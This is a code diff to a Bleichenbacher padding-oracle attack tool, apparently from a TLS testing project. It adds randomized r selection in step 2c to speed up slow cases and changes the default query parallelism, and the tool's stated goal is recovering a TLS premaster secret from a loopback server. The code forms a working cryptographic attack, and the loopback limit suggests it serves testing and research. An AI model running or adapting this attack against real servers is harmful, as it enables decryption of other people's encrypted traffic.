@@ -346,6 +346,7 @@ typedef struct attack {
     interval *M;                       /* MAX_INTERVALS */
     size_t nM;
     bn s;                              /* the last s_i found */
+    uint64_t rng;                      /* step 2c's generator */
 } attack;
 
 /* Tries multipliers s = lo, lo+1, ... up to hi (NULL: no end), jobs at a
@@ -403,18 +404,64 @@ static int step2_windows(attack *A, const bn *a, const bn *b, const bn *start, b
     }
 }
 
-/* Step 2c: one interval [a, b]: r from ceil(2 (b s - 2B) / n), and for
- * each r the s in [ceil((2B + r n) / b), floor((3B - 1 + r n) / a)]. */
+/* A deterministic generator (splitmix64) for step 2c's jumps: the attack
+ * makes the same queries every run on the same capture. */
+static uint64_t splitmix64(uint64_t *state)
+{
+    uint64_t z = (*state += 0x9e3779b97f4a7c15u);
+    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
+    z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
+    return z ^ (z >> 31);
+}
+
+/* r = a number below w (w != 0), near enough uniform: 64 bits more than w
+ * taken mod w */
+static void random_below(bn *r, const bn *w, uint64_t *state)
+{
+    bn x;
+    x.n = w->n + 2;
+    for (size_t i = 0; i < x.n; i += 2) {
+        uint64_t v = splitmix64(state);
+        x.d[i] = (uint32_t)v;
+        x.d[i + 1] = (uint32_t)(v >> 32);
+    }
+    while (x.n > 0 && x.d[x.n - 1] == 0)
+        x.n--;
+    bn_divmod(NULL, r, &x, w);
+}
+
+/* Step 2c: one interval [a, b].  Bleichenbacher takes r = r0, r0 + 1, ...
+ * from r0 = ceil(2 (b s - 2B) / n), and for each r the s in
+ * [ceil((2B + r n) / b), floor((3B - 1 + r n) / a)], so that s about
+ * doubles and the interval halves.  For some m that walk is slow: when
+ * n / m is close to an integer, the candidate of r + 1 sits almost where
+ * the candidate of r did, relative to [2B, 3B), and dozens of r in a row
+ * fail (measured: 44 queries a bit instead of 2.5 for one capture).  So
+ * after three failures the next r are drawn at random from r0 + [0, W),
+ * W = max(r0, 64), doubled every 16 failures: any r >= r0 is allowed, and
+ * a random one lands in the conforming part of that slow cycle. */
 static int step2c(attack *A, bn *found)
 {
     oracle *o = A->o;
     const bn *a = &A->M[0].a, *b = &A->M[0].b;
-    bn r, t, u, rn, lo, hi;
+    bn r0, r, t, u, rn, lo, hi, w;
     bn_mul(&t, b, &A->s);
     bn_sub(&t, &t, &A->B2);
     bn_add(&t, &t, &t);
-    bn_div_ceil(&r, &t, &o->n);
-    for (;;) {
+    bn_div_ceil(&r0, &t, &o->n);
+    for (unsigned tries = 0;; tries++) {
+        if (tries < 3) {
+            bn_add_u32(&r, &r0, tries);
+        } else {
+            bn_set_u32(&w, 64);
+            if (bn_cmp(&r0, &w) > 0)
+                bn_copy(&w, &r0);
+            unsigned doublings = (tries - 3) / 16;
+            for (unsigned i = 0; i < doublings && i < 20; i++)
+                bn_add(&w, &w, &w);
+            random_below(&r, &w, &A->rng);
+            bn_add(&r, &r, &r0);
+        }
         bn_mul(&rn, &r, &o->n);
         bn_add(&u, &A->B2, &rn);
         bn_div_ceil(&lo, &u, b);
@@ -425,7 +472,6 @@ static int step2c(attack *A, bn *found)
             if (res != 0)
                 return res;
         }
-        bn_add_u32(&r, &r, 1);
     }
 }
 
@@ -597,6 +643,7 @@ static int run(oracle *o, bn *m, int use_trim)
     attack A;
     memset(&A, 0, sizeof A);
     A.o = o;
+    A.rng = 0x676c617373746c73u;               /* "glasstls": a fixed seed */
     bn B;
     bn_pow2(&B, (unsigned)(8 * (o->k - 2)));
     bn_add(&A.B2, &B, &B);
@@ -702,7 +749,7 @@ static int usage(void)
             "  --connect ADDR     the server to ask (loopback only), one connection a query\n"
             "  --max-queries N    give up after N queries (default 200000)\n"
             "  --max-time S       give up after S seconds (default 600)\n"
-            "  --jobs N           queries in parallel (1-%d, default 4)\n"
+            "  --jobs N           queries in parallel (1-%d, default 1)\n"
             "  --no-trim          Bleichenbacher's 1998 algorithm without the trimming\n"
             "exit status: 0 premaster recovered, 3 no signal (the server answered every\n"
             "query alike), 4 budget spent with a signal, 1 error, 2 usage\n",
@@ -717,7 +764,7 @@ int attack_bleichenbacher(int argc, char **argv)
     int use_trim = 1, rc = RC_USAGE;
     if (o == NULL)
         return RC_ERROR;
-    o->max_queries = 200000, o->max_time = 600, o->jobs = 4;
+    o->max_queries = 200000, o->max_time = 600, o->jobs = 1;
     for (int i = 1; i < argc; i++) {
         const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
         if (strcmp(a, "--no-trim") == 0) {
